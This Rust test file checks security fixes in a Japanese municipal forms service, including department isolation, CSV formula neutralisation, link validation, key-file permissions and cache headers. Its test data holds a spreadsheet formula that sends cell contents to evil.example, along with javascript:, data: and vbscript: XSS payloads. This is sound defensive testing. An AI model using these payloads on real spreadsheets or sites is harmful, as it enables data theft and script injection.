//! Issue 14 ("Trust"), over HTTP on SQLite and PostgreSQL: one department cannot take over another's form or
//! read its past submissions (hole 3); no CSV the service writes carries a formula (hole 8); stored links are
//! http(s) or paths of this site, on the way in and on the way out (hole 11); and the smaller holes of 14
//! (batch pages scoped by department, FAQ answer links, development key files, `no-store` on personal pages,
//! no confirmation of another tenant's login id).

use crate::common;

use common::{TestApp, csrf_of};
use madoguchi_kernel::staff::{Role, insert_staff};
use reqwest::multipart::{Form, Part};
use serde_json::{Value, json};

const PREF: &str = "390003";
const CITY: &str = "392014";
const ROAD_DAMAGE: &str = include_str!("../../demo/forms/road-damage.json");
const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";

fn enc(s: &str) -> String {
    percent_encoding::utf8_percent_encode(s, percent_encoding::NON_ALPHANUMERIC).to_string()
}

async fn department_id(app: &TestApp, tenant_code: &str, code: &str) -> i64 {
    sqlx::query_scalar(
        "SELECT d.id FROM departments d JOIN tenants t ON t.id = d.tenant_id WHERE t.code = $1 AND d.code = $2",
    )
    .bind(tenant_code)
    .bind(code)
    .fetch_one(&app.ctx.db.read)
    .await
    .unwrap()
}

/// A new staff account of 高知県 with a role in some departments, logged in in a browser of its own.
async fn pref_staff(
    app: &TestApp,
    login: &str,
    role: Role,
    departments: &[&str],
) -> reqwest::Client {
    let tenant: i64 = sqlx::query_scalar("SELECT id FROM tenants WHERE code = $1")
        .bind(PREF)
        .fetch_one(&app.ctx.db.read)
        .await
        .unwrap();
    let mut ids = Vec::new();
    for d in departments {
        ids.push(department_id(app, PREF, d).await);
    }
    insert_staff(
        &app.ctx.db,
        tenant,
        login,
        login,
        role,
        madoguchi::demo::DEMO_PASSWORD,
        &ids,
    )
    .await
    .unwrap();
    app.as_staff(login).await.client
}

/// A logged-in browser of a demo account.
async fn demo_staff(app: &TestApp, login: &str) -> reqwest::Client {
    app.as_staff(login).await.client
}

async fn text_of(client: &reqwest::Client, app: &TestApp, path: &str) -> (u16, String) {
    let r = client.get(app.url(path)).send().await.unwrap();
    (r.status().as_u16(), r.text().await.unwrap())
}

/// GETs `page` for its CSRF value, then POSTs `fields` (with it) to `action`.
async fn post_form(
    client: &reqwest::Client,
    app: &TestApp,
    page: &str,
    action: &str,
    fields: &[(&str, &str)],
) -> (u16, String) {
    let r = app
        .browser_of(client)
        .post_form_from(page, action, fields)
        .await;
    (r.status().as_u16(), r.text().await.unwrap())
}

/// Imports a form definition on `/staff/forms/import`.
async fn import_form(
    client: &reqwest::Client,
    app: &TestApp,
    slug: &str,
    json: &str,
) -> (u16, String) {
    post_form(
        client,
        app,
        "/staff/forms",
        "/staff/forms/import",
        &[("slug", slug), ("definition", json)],
    )
    .await
}

/// A submission made earlier to a form's current version and department (written as the committer does;
/// how residents submit is not what these tests are about). Returns its id.
async fn past_submission(app: &TestApp, slug: &str, receipt: &str) -> i64 {
    sqlx::query_scalar(
        "INSERT INTO submissions (tenant_id, department_id, form_id, form_version_id, receipt_number, status,
             answers, applicant_name, search_key, submitted_at, updated_at)
         SELECT f.tenant_id, f.department_id, f.id, v.id, $1, 'received', '{}', '道路 太郎', '', $2, $2
         FROM forms f JOIN form_versions v ON v.form_id = f.id AND v.version = f.current_version
         WHERE f.slug = $3
         RETURNING id",
    )
    .bind(receipt)
    .bind(madoguchi_kernel::now_ms())
    .bind(slug)
    .fetch_one(&app.ctx.db.write)
    .await
    .unwrap()
}

async fn form_row(app: &TestApp, slug: &str) -> (i64, i64, i64) {
    sqlx::query_as("SELECT id, department_id, current_version FROM forms WHERE slug = $1")
        .bind(slug)
        .fetch_one(&app.ctx.db.read)
        .await
        .unwrap()
}

/// Rows of a CSV body (after a BOM).
fn csv_rows(body: &str) -> Vec<Vec<String>> {
    let body = body.trim_start_matches('\u{feff}');
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(body.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect()
}

/// No cell of a CSV starts as a spreadsheet formula would.
fn assert_no_formula(body: &str) {
    for row in csv_rows(body) {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "formula cell {cell:?}"
            );
        }
    }
}

/// Logs in as a staff account and creates an open data API token on the tokens page.
async fn ckan_token(app: &TestApp, login: &str) -> String {
    let client = demo_staff(app, login).await;
    let (status, html) = post_form(
        &client,
        app,
        "/staff/opendata/tokens",
        "/staff/opendata/tokens",
        &[("name", "テスト連携")],
    )
    .await;
    assert_eq!(status, 200);
    let marker = "id=\"new-token\" readonly value=\"";
    let start = html.find(marker).expect("token shown once") + marker.len();
    html[start..start + html[start..].find('"').unwrap()].to_string()
}

async fn ckan(app: &TestApp, name: &str, token: &str, body: Value) -> (u16, Value) {
    let r = app
        .client
        .post(app.url(&format!("/api/3/action/{name}")))
        .header("Authorization", token)
        .json(&body)
        .send()
        .await
        .unwrap();
    (r.status().as_u16(), r.json().await.unwrap())
}

const UNSAFE_LINKS: [&str; 9] = [
    "javascript:alert(document.domain)",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/a.csv",
    "/\\evil.example/a.csv",
    "ftp://example.jp/a.csv",
];

fn assert_link_refused(status: u16, v: &Value, url: &str) {
    assert_eq!(status, 409, "{url}: {v}");
    assert_eq!(v["error"]["__type"], "Validation Error", "{url}: {v}");
    assert!(
        v["error"]["url"][0]
            .as_str()
            .unwrap()
            .contains("http:// または https://"),
        "{url}: {v}"
    );
}

both!(
    another_departments_editor_cannot_take_over_a_form_by_its_slug,
    a_moved_form_does_not_carry_its_past_submissions_to_the_new_department,
    form_export_neutralises_formulas_in_labels_and_keeps_full_width_text,
    faq_log_and_export_neutralise_formulas_even_from_the_shared_pool,
    open_data_refuses_links_that_are_not_http_or_site_paths,
    open_data_never_gives_out_an_unsafe_link_stored_before_the_check,
    issuance_batch_pages_are_scoped_by_department,
    faq_answers_link_only_to_http_and_single_slash_paths,
    development_seal_and_tsa_keys_are_readable_by_the_owner_only,
    staff_and_mypage_responses_are_not_stored_by_caches,
    creating_staff_does_not_confirm_another_tenants_login_id,
);

async fn another_departments_editor_cannot_take_over_a_form_by_its_slug(app: &TestApp) {
    let (form_id, owner, version) = form_row(app, "road-damage").await;
    assert_eq!(owner, department_id(app, PREF, "doro").await);
    let versions = app.scalar("SELECT COUNT(*) FROM form_versions").await;
    // An editor of デジタル政策課 only re-publishes 道路課's form under its own department.
    let attacker = pref_staff(app, "kikaku-editor", Role::Editor, &["kikaku"]).await;
    let hijack = ROAD_DAMAGE.replace("\"department\": \"doro\"", "\"department\": \"kikaku\"");
    assert_ne!(hijack, ROAD_DAMAGE);
    let (status, page) = import_form(&attacker, app, "road-damage", &hijack).await;
    assert_eq!(status, 422, "{page}");
    assert!(
        page.contains(
            "URL名「road-damage」は、編集する権限のない所属のフォームですでに使われています"
        ),
        "{page}"
    );
    // Nothing changed: the owner, the version, the versions stored.
    assert_eq!(
        form_row(app, "road-damage").await,
        (form_id, owner, version)
    );
    assert_eq!(
        app.scalar("SELECT COUNT(*) FROM form_versions").await,
        versions
    );
    // The owner's editors still publish new versions.
    let owner_editor = demo_staff(app, "pref-editor").await;
    let (status, page) = import_form(&owner_editor, app, "road-damage", ROAD_DAMAGE).await;
    assert_eq!(status, 303, "{page}");
    assert_eq!(
        form_row(app, "road-damage").await,
        (form_id, owner, version + 1)
    );
}

async fn a_moved_form_does_not_carry_its_past_submissions_to_the_new_department(app: &TestApp) {
    let (form_id, _, _) = form_row(app, "road-damage").await;
    past_submission(app, "road-damage", "R-DORO-PAST-1").await;
    // The administrator moves the form to デジタル政策課 (allowed: they may edit both departments).
    let admin = demo_staff(app, "pref-admin").await;
    let moved = ROAD_DAMAGE.replace("\"department\": \"doro\"", "\"department\": \"kikaku\"");
    let (status, page) = import_form(&admin, app, "road-damage", &moved).await;
    assert_eq!(status, 303, "{page}");
    assert_eq!(
        form_row(app, "road-damage").await.1,
        department_id(app, PREF, "kikaku").await
    );
    // A reviewer of the new department reads the form's export, summary and inbox: not the past submission.
    let reviewer = pref_staff(app, "kikaku-reviewer", Role::Reviewer, &["kikaku"]).await;
    let export = format!("/staff/forms/{form_id}/export.csv");
    let (status, csv) = text_of(&reviewer, app, &export).await;
    assert_eq!(status, 200, "{csv}");
    assert!(csv.starts_with("\u{feff}受付番号"), "{csv}");
    assert!(!csv.contains("R-DORO-PAST-1"), "{csv}");
    let (status, sjis) = text_of(&reviewer, app, &format!("{export}?encoding=sjis")).await;
    assert_eq!(status, 200);
    assert!(!sjis.contains("R-DORO-PAST-1"));
    let (status, summary) =
        text_of(&reviewer, app, &format!("/staff/forms/{form_id}/summary")).await;
    assert_eq!(status, 200);
    assert!(summary.contains("申請数: 0件"), "{summary}");
    let (_, inbox) = text_of(&reviewer, app, "/staff").await;
    assert!(!inbox.contains("R-DORO-PAST-1"));
    // The administrator, who may read both departments, still sees it.
    let (_, csv) = text_of(&admin, app, &export).await;
    assert!(csv.contains("R-DORO-PAST-1"), "{csv}");
}

async fn form_export_neutralises_formulas_in_labels_and_keeps_full_width_text(app: &TestApp) {
    let def = json!({
        "title": "ラベル確認",
        "department": "kikaku",
        "contact": {"name": "デジタル政策課", "email": "digital@example.jp"},
        "parts": [
            {"key": "a", "type": "text", "label": FORMULA},
            {"key": "b", "type": "text", "label": "＝全角で始まる見出し"},
            {"key": "c", "type": "text", "label": "-マイナス"}
        ]
    });
    let admin = demo_staff(app, "pref-admin").await;
    let (status, page) = import_form(&admin, app, "label-check", &def.to_string()).await;
    assert_eq!(status, 303, "{page}");
    let (form_id, _, _) = form_row(app, "label-check").await;
    past_submission(app, "label-check", "R-LABEL-1").await;
    sqlx::query("UPDATE submissions SET answers = $1 WHERE receipt_number = 'R-LABEL-1'")
        .bind(json!({"a": "@SUM(1+1)", "b": "＝ふつうの文", "c": "+81"}).to_string())
        .execute(&app.ctx.db.write)
        .await
        .unwrap();
    for path in [
        format!("/staff/forms/{form_id}/export.csv"),
        format!("/staff/forms/{form_id}/codebook.csv"),
    ] {
        let (status, body) = text_of(&admin, app, &path).await;
        assert_eq!(status, 200, "{path}");
        assert_no_formula(&body);
        assert!(
            body.contains(&format!("'{}", FORMULA.replace('"', "\"\""))),
            "{body}"
        );
        assert!(body.contains("'-マイナス"), "{body}");
        // Full-width ＝ is ordinary text to every spreadsheet: kept as it is.
        assert!(body.contains(",＝全角で始まる見出し"), "{body}");
    }
    let (_, body) = text_of(&admin, app, &format!("/staff/forms/{form_id}/export.csv")).await;
    let rows = csv_rows(&body);
    let row = rows.iter().find(|r| r[0] == "R-LABEL-1").unwrap();
    assert!(row.contains(&"'@SUM(1+1)".to_string()), "{row:?}");
    assert!(row.contains(&"'+81".to_string()), "{row:?}");
    assert!(row.contains(&"＝ふつうの文".to_string()), "{row:?}");
}

async fn faq_log_and_export_neutralise_formulas_even_from_the_shared_pool(app: &TestApp) {
    // Anonymous residents ask.
    for q in [
        FORMULA,
        "＝全角のイコールで始まる質問",
        "@メンションのような質問",
    ] {
        let r = app
            .client
            .get(app.url(&format!("/api/v1/t/{CITY}/faq/ask?q={}", enc(q))))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status().as_u16(), 200);
    }
    let city = demo_staff(app, "kochi-city-admin").await;
    let (status, log) = text_of(&city, app, "/staff/faq/log.csv").await;
    assert_eq!(status, 200);
    assert_no_formula(&log);
    let questions: Vec<String> = csv_rows(&log).into_iter().map(|r| r[3].clone()).collect();
    assert!(
        questions.iter().any(|q| q.starts_with("'=HYPERLINK")),
        "{log}"
    );
    assert!(questions.iter().any(|q| q.starts_with("'@")), "{log}");
    assert!(
        questions.iter().any(|q| q.starts_with("＝全角")),
        "full-width kept: {log}"
    );

    // 高知市 writes a Q&A whose question and answer start like formulas and shares it.
    let question = format!("{FORMULA} 年金の手続");
    let (status, page) = post_form(
        &city,
        app,
        "/staff/faq/new",
        "/staff/faq/new",
        &[
            ("department", "shimin"),
            ("category", "国民年金"),
            ("question", question.as_str()),
            ("phrasings", "-1+1"),
            ("answer", "@SUM(1+1) 窓口でお尋ねください。"),
            ("audience", "public"),
        ],
    )
    .await;
    assert_eq!(status, 303, "{page}");
    let entry: i64 = sqlx::query_scalar("SELECT id FROM faq_entries WHERE question = $1")
        .bind(&question)
        .fetch_one(&app.ctx.db.read)
        .await
        .unwrap();
    let (status, page) = post_form(
        &city,
        app,
        &format!("/staff/faq/entries/{entry}"),
        &format!("/staff/faq/entries/{entry}/publish"),
        &[],
    )
    .await;
    assert_eq!(status, 303, "{page}");
    // 高知県 adopts it from the shared pool and exports its Q&As.
    let pref = demo_staff(app, "pref-admin").await;
    let (status, _) = post_form(
        &pref,
        app,
        "/staff/faq/shared",
        "/staff/faq/shared/subscriptions",
        &[("category", "国民年金")],
    )
    .await;
    assert_eq!(status, 303);
    let shared: i64 = sqlx::query_scalar("SELECT id FROM faq_shared WHERE source_entry_id = $1")
        .bind(entry)
        .fetch_one(&app.ctx.db.read)
        .await
        .unwrap();
    let (status, page) = post_form(
        &pref,
        app,
        "/staff/faq/shared",
        &format!("/staff/faq/shared/{shared}/adopt"),
        &[("department", "kikaku")],
    )
    .await;
    assert_eq!(status, 303, "{page}");
    let (status, export) = text_of(&pref, app, "/staff/faq/export.csv").await;
    assert_eq!(status, 200);
    assert_no_formula(&export);
    assert!(export.contains("'=HYPERLINK"), "{export}");
    assert!(export.contains("'@SUM(1+1)"), "{export}");
    // Re-importing the export restores the text: nothing changes, no version is added.
    let versions = app.scalar("SELECT COUNT(*) FROM faq_entry_versions").await;
    let (_, page) = text_of(&pref, app, "/staff/faq/import").await;
    let form = Form::new().text("_csrf", csrf_of(&page)).part(
        "file",
        Part::bytes(export.into_bytes())
            .file_name("faq.csv")
            .mime_str("text/csv")
            .unwrap(),
    );
    let r = pref
        .post(app.url("/staff/faq/import"))
        .multipart(form)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 200);
    let page = r.text().await.unwrap();
    assert!(page.contains("追加 0件、更新 0件"), "{page}");
    assert_eq!(
        app.scalar("SELECT COUNT(*) FROM faq_entry_versions").await,
        versions
    );
}

async fn open_data_refuses_links_that_are_not_http_or_site_paths(app: &TestApp) {
    let token = ckan_token(app, "kochi-city-admin").await;
    let (s, v) = ckan(
        app,
        "package_create",
        &token,
        json!({"name": "links", "owner_org": CITY, "title": "リンク"}),
    )
    .await;
    assert_eq!(s, 200, "{v}");
    for url in UNSAFE_LINKS {
        let (s, v) = ckan(
            app,
            "resource_create",
            &token,
            json!({"package_id": "links", "url": url, "name": "x"}),
        )
        .await;
        assert_link_refused(s, &v, url);
        let (s, v) = ckan(
            app,
            "package_create",
            &token,
            json!({"name": "links-2", "owner_org": CITY, "title": "x", "resources": [{"url": url}]}),
        )
        .await;
        assert_link_refused(s, &v, url);
        let (s, v) = ckan(
            app,
            "package_patch",
            &token,
            json!({"id": "links", "url": url}),
        )
        .await;
        assert_link_refused(s, &v, url);
    }
    assert_eq!(app.scalar("SELECT COUNT(*) FROM od_resources").await, 0);
    assert_eq!(
        app.scalar("SELECT COUNT(*) FROM od_datasets WHERE name = 'links-2'")
            .await,
        0,
        "a refused link leaves no dataset half made"
    );
    // http(s) and paths of this site are links; a path is given out absolute.
    let (s, v) = ckan(
        app,
        "resource_create",
        &token,
        json!({"package_id": "links", "url": "https://www.city.kochi.example/aed.csv"}),
    )
    .await;
    assert_eq!(s, 200, "{v}");
    let (s, v) = ckan(
        app,
        "resource_create",
        &token,
        json!({"package_id": "links", "url": "/opendata/dataset/links"}),
    )
    .await;
    assert_eq!(s, 200, "{v}");
    assert_eq!(
        v["result"]["url"].as_str().unwrap(),
        format!("{}/opendata/dataset/links", app.ctx.config.public_url)
    );
    // The staff page refuses the same, in Japanese, naming the field.
    let staff = demo_staff(app, "kochi-city-admin").await;
    let (status, page) = post_form(
        &staff,
        app,
        "/staff/opendata/datasets/links",
        "/staff/opendata/datasets/links",
        &[
            ("name", "links"),
            ("title", "リンク"),
            ("url", "javascript:alert(1)"),
        ],
    )
    .await;
    assert_eq!(status, 422, "{page}");
    assert!(
        page.contains("http:// または https:// で始まるURL"),
        "{page}"
    );
    let url: String = sqlx::query_scalar("SELECT url FROM od_datasets WHERE name = 'links'")
        .fetch_one(&app.ctx.db.read)
        .await
        .unwrap();
    assert_eq!(url, "");
}

async fn open_data_never_gives_out_an_unsafe_link_stored_before_the_check(app: &TestApp) {
    let token = ckan_token(app, "kochi-city-admin").await;
    let (s, v) = ckan(
        app,
        "package_create",
        &token,
        json!({"name": "old-links", "owner_org": CITY, "title": "古いリンク",
               "url": "https://www.city.kochi.example/",
               "resources": [{"url": "https://www.city.kochi.example/a.csv", "name": "古いデータ"}]}),
    )
    .await;
    assert_eq!(s, 200, "{v}");
    // Rows written before links were checked.
    sqlx::query("UPDATE od_resources SET url = 'javascript:alert(document.domain)'")
        .execute(&app.ctx.db.write)
        .await
        .unwrap();
    sqlx::query("UPDATE od_datasets SET url = 'JaVaScRiPt:alert(1)'")
        .execute(&app.ctx.db.write)
        .await
        .unwrap();
    sqlx::query("UPDATE od_catalog_version SET version = version + 1 WHERE id = 1")
        .execute(&app.ctx.db.write)
        .await
        .unwrap();
    sqlx::query(
        "UPDATE od_datasets SET seq = (SELECT version FROM od_catalog_version WHERE id = 1)",
    )
    .execute(&app.ctx.db.write)
    .await
    .unwrap();
    let r = app
        .client
        .get(app.url("/api/3/action/package_show?id=old-links"))
        .send()
        .await
        .unwrap();
    let v: Value = r.json().await.unwrap();
    assert_eq!(v["result"]["resources"][0]["name"], "古いデータ", "{v}");
    assert_eq!(v["result"]["resources"][0]["url"], "", "{v}");
    assert_eq!(v["result"]["url"], "", "{v}");
    for path in [
        "/opendata/dataset/old-links",
        "/catalog.jsonld",
        "/catalog.ttl",
        "/api/3/action/package_search?q=古いリンク",
        "/api/3/action/current_package_list_with_resources",
    ] {
        let (status, body) = app.get_text(path).await;
        assert_eq!(status, 200, "{path}");
        assert!(
            !body.to_lowercase().contains("javascript:"),
            "{path}: {body}"
        );
    }
    let (_, page) = app.get_text("/opendata/dataset/old-links").await;
    assert!(page.contains("古いデータ"));
}

async fn issuance_batch_pages_are_scoped_by_department(app: &TestApp) {
    let sub = past_submission(app, "jigyo-suishin-hojokin", "R-SHOKO-BATCH-1").await;
    let (tenant, creator): (i64, i64) =
        sqlx::query_as("SELECT tenant_id, id FROM staff WHERE login = 'shoko-reviewer'")
            .fetch_one(&app.ctx.db.read)
            .await
            .unwrap();
    let batch: i64 = sqlx::query_scalar(
        "INSERT INTO issuance_batches (tenant_id, created_by, total, created_at) VALUES ($1, $2, 1, $3) RETURNING id",
    )
    .bind(tenant)
    .bind(creator)
    .bind(madoguchi_kernel::now_ms())
    .fetch_one(&app.ctx.db.write)
    .await
    .unwrap();
    sqlx::query(
        "INSERT INTO issuance_batch_items (batch_id, submission_id, state) VALUES ($1, $2, 'done')",
    )
    .bind(batch)
    .bind(sub)
    .execute(&app.ctx.db.write)
    .await
    .unwrap();
    let path = format!("/staff/issuance/batches/{batch}");
    for (login, expected) in [
        ("doro-reviewer", 404),
        ("pref-viewer", 404),
        ("kochi-city-admin", 404),
        ("shoko-reviewer", 200),
        ("pref-admin", 200),
    ] {
        let client = demo_staff(app, login).await;
        let (status, page) = text_of(&client, app, &path).await;
        assert_eq!(status, expected, "{login}");
        assert_eq!(page.contains("R-SHOKO-BATCH-1"), expected == 200, "{login}");
    }
}

async fn faq_answers_link_only_to_http_and_single_slash_paths(app: &TestApp) {
    let city = demo_staff(app, "kochi-city-admin").await;
    let question = "転入届の窓口はどこですか";
    let answer = "市民課です。[申請](/t/392014/forms/a)、[偽の案内](/\\evil.example/x)、[別の偽](//evil.example/y)、[台本](javascript:alert(1))";
    let (status, page) = post_form(
        &city,
        app,
        "/staff/faq/new",
        "/staff/faq/new",
        &[
            ("department", "shimin"),
            ("category", "住民票"),
            ("question", question),
            ("answer", answer),
            ("audience", "public"),
        ],
    )
    .await;
    assert_eq!(status, 303, "{page}");
    let r = app
        .client
        .get(app.url(&format!("/api/v1/t/{CITY}/faq/ask?q={}", enc(question))))
        .send()
        .await
        .unwrap();
    let v: Value = r.json().await.unwrap();
    let html = v["answer"]["answer_html"].as_str().unwrap_or_default();
    assert!(
        html.contains("<a href=\"/t/392014/forms/a\">申請</a>"),
        "{v}"
    );
    assert!(!html.contains("evil.example/x\""), "{html}");
    assert!(!html.contains("href=\"//"), "{html}");
    assert!(!html.contains("href=\"javascript"), "{html}");
    assert_eq!(html.matches("<a ").count(), 1, "{html}");
}

async fn development_seal_and_tsa_keys_are_readable_by_the_owner_only(app: &TestApp) {
    use std::os::unix::fs::PermissionsExt;
    // The issuance page loads the sealer, which makes the development PKI on first use.
    let admin = demo_staff(app, "pref-admin").await;
    let (status, _) = text_of(&admin, app, "/staff/issuance").await;
    assert_eq!(status, 200);
    let dir = madoguchi_issuance::seal::dev_dir(&app.data_dir);
    for key in ["seal.key", "tsa.key"] {
        let mode = std::fs::metadata(dir.join(key))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600, "{key}: {mode:o}");
    }
    let mode = std::fs::metadata(&dir).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o700, "{mode:o}");
    // A key file left world-readable by an earlier version is tightened when the PKI is next loaded.
    std::fs::set_permissions(dir.join("seal.key"), std::fs::Permissions::from_mode(0o644)).unwrap();
    madoguchi_issuance::seal::ensure_dev_pki(&app.data_dir, "高知県").unwrap();
    let mode = std::fs::metadata(dir.join("seal.key"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o600);
}

async fn staff_and_mypage_responses_are_not_stored_by_caches(app: &TestApp) {
    let anonymous = app.browser();
    let reviewer = demo_staff(app, "shoko-reviewer").await;
    for (client, path) in [
        (&anonymous, "/staff/login"),
        (&anonymous, "/staff"),
        (&anonymous, "/mypage"),
        (&anonymous, "/mypage/login"),
        (&reviewer, "/staff"),
        (&reviewer, "/staff/forms"),
        (&reviewer, "/staff/forms/1/export.csv"),
        (&reviewer, "/staff/submissions/999999"),
        (&reviewer, "/staff/faq"),
    ] {
        let r = client.get(app.url(path)).send().await.unwrap();
        assert_eq!(
            r.headers()
                .get("cache-control")
                .map(|v| v.to_str().unwrap()),
            Some("no-store"),
            "{path} ({})",
            r.status()
        );
    }
    // Static assets keep their caching: only personal pages are no-store.
    let r = anonymous
        .get(app.url("/static/site.css"))
        .send()
        .await
        .unwrap();
    assert_ne!(
        r.headers()
            .get("cache-control")
            .map(|v| v.to_str().unwrap()),
        Some("no-store")
    );
}

async fn creating_staff_does_not_confirm_another_tenants_login_id(app: &TestApp) {
    let city = demo_staff(app, "kochi-city-admin").await;
    let staff = app.scalar("SELECT COUNT(*) FROM staff").await;
    let (status, page) = post_form(
        &city,
        app,
        "/staff/admin",
        "/staff/admin/staff",
        &[
            ("login", "pref-admin"),
            ("name", "なりすまし"),
            ("role", "admin"),
            ("password", "correct horse battery staple"),
        ],
    )
    .await;
    assert_eq!(status, 422, "{page}");
    assert!(!page.contains("すでに使われています"), "{page}");
    assert!(
        page.contains("ログインID「pref-admin」は登録できません。別のログインIDにしてください。"),
        "{page}"
    );
    assert_eq!(app.scalar("SELECT COUNT(*) FROM staff").await, staff);
    assert_eq!(
        app.scalar("SELECT COUNT(*) FROM audit_log WHERE action = 'staff_login_refused'")
            .await,
        1
    );
}
